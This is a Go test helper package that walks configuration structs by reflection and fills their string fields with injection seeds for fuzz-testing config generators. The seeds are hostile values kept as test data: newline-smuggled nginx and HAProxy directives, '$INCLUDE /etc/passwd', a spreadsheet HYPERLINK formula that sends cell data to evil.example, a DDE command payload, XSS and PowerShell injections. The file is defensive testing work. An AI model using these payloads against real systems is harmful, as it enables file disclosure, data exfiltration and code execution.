package testtool

import (
	"reflect"
	"strconv"
)

// StringField is one string of a value, found by reflection, that a test
// can read and replace in place.
type StringField struct {
	// Path names the field: ReverseProxies[0].Rules[1].PublicNames[0].
	Path string
	v    reflect.Value
}

// Get returns the field's value.
func (f StringField) Get() string { return f.v.String() }

// Set replaces the field's value.
func (f StringField) Set(s string) { f.v.SetString(s) }

// Replace sets the field to s and returns a function that puts the old
// value back.
func (f StringField) Replace(s string) (restore func()) {
	old := f.Get()
	f.Set(s)
	return func() { f.Set(old) }
}

// StringFields lists every string reachable from ptr (a pointer to a
// struct or a slice) through exported struct fields, slices and
// pointers, in a fixed order: every string field and every element of a
// list of strings. Maps are not walked (a plan has none).
func StringFields(ptr any) []StringField {
	var out []StringField
	var walk func(path string, v reflect.Value)
	walk = func(path string, v reflect.Value) {
		switch v.Kind() {
		case reflect.String:
			if v.CanSet() {
				out = append(out, StringField{Path: path, v: v})
			}
		case reflect.Pointer:
			if !v.IsNil() {
				walk(path, v.Elem())
			}
		case reflect.Struct:
			t := v.Type()
			for i := 0; i < t.NumField(); i++ {
				if t.Field(i).IsExported() {
					p := t.Field(i).Name
					if path != "" {
						p = path + "." + p
					}
					walk(p, v.Field(i))
				}
			}
		case reflect.Slice, reflect.Array:
			for i := 0; i < v.Len(); i++ {
				walk(path+"["+strconv.Itoa(i)+"]", v.Index(i))
			}
		}
	}
	walk("", reflect.ValueOf(ptr))
	return out
}

// InjectionSeeds are the attacks of issue 9 and their relatives, for the
// generators' fuzz tests and for the tests that run the real tools on
// what the generators accept: line breaks followed by a directive, a
// section, a record or a master file directive; a key-value line of the
// certificate configurations; formulas, HTML and terminal escapes; and
// characters each format reads specially, on one line.
var InjectionSeeds = []string{
	"rp\nuser root;\n#",
	"x\n    server { listen 8443; root /etc; location / { try_files /shadow =404; } }\n#",
	"x\n\nlisten evil\n    bind :2222\n    mode tcp\n    server evil 203.0.113.66:22\n#",
	"hostmaster.contoso.com.\n$INCLUDE /etc/passwd\n",
	"$INCLUDE /etc/passwd",
	"131.107.155.1\nevil 60 IN A 203.0.113.66",
	"rp\n\n[ alt_names ]\nDNS.99 = evil.example\n#",
	"rp ] [ alt_names ] DNS.99 = evil.example",
	"x\r\n[NewRequest]\r\nSubject = \"CN=evil.example\"",
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3", "@SUM(1)", "\t=1",
	"<img src=x onerror=alert(1)>",
	"[link](javascript:alert(1))", "`code`", "# heading", "- item", "1. item",
	"\x1b]0;pwned\x07\x1b[2J",
	"’; Start-Process calc; ’",
	"a; user root; #{ } \"q\" 'q' $host",
	`trailing\`, `a\"b`, "${ENV::HOME}", "$(id)", "%SystemRoot%", "a&dns=evil.example",
	"a\rb", "a\u2028b", "a\u202eb", "\xff", "\x00", "",
	"192.0.2.1:80 backup", "fe80::1%eth0", "10.0.0.1", "2001:db8::1",
	"*", "*.contoso.com", "~.*", "_", "@", "evil.example", "a b", "a.b",
}

// WorstSeeds are the seeds a generator may accept somewhere (a comment,
// a quoted string) while they hold what its format reads specially: the
// tests that run the real tools on the generated files use them.
var WorstSeeds = []string{
	"a; user root; #{ } \"q\" 'q' $host",
	"rp ] [ alt_names ] DNS.99 = evil.example",
	`trailing\`, `a\"b`, "${ENV::HOME}", "%SystemRoot%", "a&dns=evil.example",
	"’; Start-Process calc; ’",
	"<img src=x onerror=alert(1)>",
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	"*.contoso.com", "evil.example", "2001:db8::1", "_", "@",
}

// Saturate sets s in every field of fields that accept keeps accepting,
// one after the other, and returns a function that restores them all:
// one value for the real tools holding the seed wherever the generator
// takes it.
func Saturate(fields []StringField, s string, accept func() bool) (restore func(), set int) {
	var undo []func()
	for _, f := range fields {
		r := f.Replace(s)
		if accept() {
			undo = append(undo, r)
			set++
		} else {
			r()
		}
	}
	return func() {
		for i := len(undo) - 1; i >= 0; i-- {
			undo[i]()
		}
	}, set
}
